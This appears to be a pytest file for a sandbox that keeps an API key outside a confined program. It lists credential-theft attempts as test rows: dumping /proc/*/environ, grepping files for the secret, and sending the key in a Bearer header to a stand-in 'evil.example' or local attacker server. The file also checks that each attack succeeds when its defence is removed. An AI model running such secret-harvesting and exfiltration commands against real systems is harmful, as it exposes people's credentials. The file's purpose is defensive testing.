"""Attacks on a key that stays outside of a room (`key: proxied`), by a program in the room. Each row names a hole: with
it the same attack works."""

from __future__ import annotations

import os
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import h11
import pytest
from tests.rooms_here import needs_rooms

from interlock.agents.outside import Outside, keep_outside
from interlock.core.ids import AttemptId
from interlock.core.pipeline import AgentSpec
from interlock.ports import Brief, Checkout, Sandbox
from interlock.process import Supervised, checkout_environment, supervise
from interlock.sandbox import Room, confine, keys

pytestmark = needs_rooms
KEY = "sk-TOPSECRET-0123456789"
# What each prints is judged: GOT, or the key itself.
_ASKS = """
import os, socket
s = socket.create_connection(('127.0.0.1', 3129), 5)
told = {text!r}.replace('PLACEHOLDER', os.environ['OPENAI_API_KEY']).replace('EVIL', os.environ['EVIL'])
s.sendall(told.encode())
said = b''
while part := s.recv(65536):
    said += part
print(said.decode())
"""
Hole = Callable[[pytest.MonkeyPatch], None]


def _asks(line: str, *headers: str) -> str:
    return _ASKS.format(text="\r\n".join((line, *headers, "Connection: close", "", "")))


def _shown(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(Outside, "hide", lambda self, env: dict(env))


def _any_target(patch: pytest.MonkeyPatch) -> None:
    def theirs(self: keys.Proxied, request: object) -> object:
        object.__setattr__(self, "endpoint", os.environ["EVIL"])
        return real(self, request)  # type: ignore[arg-type]

    real = keys.Proxied._for_the_endpoint
    patch.setattr(keys, "_HOSTS", _All())
    patch.setattr(keys.Proxied, "_for_the_endpoint", theirs)


class _All:
    def __contains__(self, name: object) -> bool:
        return True


@dataclass(frozen=True, slots=True)
class Attack:
    id: str
    script: str
    hole: Hole


ATTACKS = (
    Attack("environment", "env", _shown),
    Attack("environment-of-others", "cat /proc/*/environ | tr '\\0' '\\n'", _shown),
    Attack("another-variable-with-the-key-in-it", "printenv ADDRESS", _shown),
    Attack("files", "env > /w/tree/e; grep -rh '[T]OPSECRET' /w /tmp /etc /proc/*/cmdline 2>/dev/null", _shown),
    Attack(
        "an-answer-that-repeats-it",
        _asks("GET /echo HTTP/1.1", "Host: 127.0.0.1:3129", "Authorization: Bearer PLACEHOLDER"),
        lambda patch: patch.setattr(keys._Stars, "whole", lambda self, text: text),
    ),
    Attack(
        "another-host",
        _asks("GET / HTTP/1.1", "Host: evil.example", "Authorization: Bearer PLACEHOLDER"),
        _any_target,
    ),
    Attack(
        "a-redirect",
        _asks("GET /away HTTP/1.1", "Host: 127.0.0.1:3129", "Authorization: Bearer PLACEHOLDER"),
        lambda patch: patch.setattr(
            keys, "_for_the_room", lambda answer, stars: h11.Response(status_code=302, headers=list(answer.headers))
        ),
    ),
    Attack(
        "a-key-of-its-own",
        _asks("GET /echo HTTP/1.1", "Host: 127.0.0.1:3129", "Authorization: Bearer GOT"),
        lambda patch: patch.setattr(keys, "_CREDENTIALS", ()),
    ),
)


@pytest.mark.parametrize("row", ATTACKS, ids=lambda row: row.id)
def test_nothing_is_got(row: Attack, tmp_path: Path) -> None:
    said, evil = _run(row, tmp_path)
    assert KEY not in said
    assert "GOT" not in said
    assert not evil


@pytest.mark.parametrize("row", ATTACKS, ids=lambda row: row.id)
def test_without_its_defence_it_is(row: Attack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    row.hole(monkeypatch)
    said, evil = _run(row, tmp_path)
    assert KEY in said or "GOT" in said or evil == [f"Bearer {KEY}"], said


def _run(row: Attack, folder: Path) -> tuple[str, list[str]]:
    """What the program printed, and what the attacker's server was sent."""
    made = Checkout(folder, folder / "tree", folder / "home", folder / "tmp", sandbox=Sandbox("full"))
    for one in (made.tree, made.home, made.tmp, folder / "output"):
        one.mkdir(parents=True)
    with ExitStack() as stack:
        asked: list[str] = []
        endpoint, evil = stack.enter_context(_server([])), stack.enter_context(_server(asked))
        os.environ["EVIL"] = evil
        stack.callback(os.environ.pop, "EVIL")
        env = {
            **checkout_environment(os.environ, made),
            "OPENAI_API_KEY": KEY,
            "ADDRESS": f"https://ann:{KEY}@x.example",
        }
        outside = keep_outside(AgentSpec("a", "codex"), _brief(env), endpoint)
        script = row.script
        words = (sys.executable, "-c", script) if script.startswith("\nimport ") else ("/bin/sh", "-c", script)
        shown = {**outside.hide(env), "EVIL": evil}
        work = Supervised(words, made.tree, shown, folder / "output/log", 20)
        said = supervise(confine(work, Room(made, serves=outside.serves)), threading.Event()).tail.decode()
    return said, asked


def _brief(env: Mapping[str, str]) -> Brief:
    return Brief("r", AttemptId("code", 1, 1), "", "", "", env, 60, 0, hosts=())


class _Says(BaseHTTPRequestHandler):
    asked: list[str]

    def do_GET(self) -> None:
        given = self.headers.get("Authorization", "")
        self.server.asked.append(given)  # type: ignore[attr-defined]
        body = given.encode() if self.path == "/echo" else b""
        self.send_response(302 if self.path == "/away" else 200)
        if self.path == "/away":
            self.send_header("Location", "http://127.0.0.1:1/?GOT")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def _server(asked: list[str]) -> Iterator[str]:
    with ThreadingHTTPServer(("127.0.0.1", 0), _Says) as server:
        server.asked = asked  # type: ignore[attr-defined]
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}"
        server.shutdown()
